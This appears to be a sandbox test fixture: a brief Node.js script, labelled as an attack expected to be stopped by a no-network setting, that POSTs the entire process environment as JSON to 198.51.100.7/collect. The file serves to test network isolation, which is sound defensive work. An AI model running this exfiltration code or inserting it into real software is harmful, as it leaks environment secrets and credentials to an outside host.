// attack: post the environment over HTTP from Node
// expect: VIOLATION NETWORK
// stopped-by: network none
const http = require("http");
const request = http.request({host: "198.51.100.7", port: 80, method: "POST", path: "/collect"}, () => process.exit(42));
request.on("error", (e) => { console.error(e.message, e.code); process.exit(1); });
request.end(JSON.stringify(process.env));
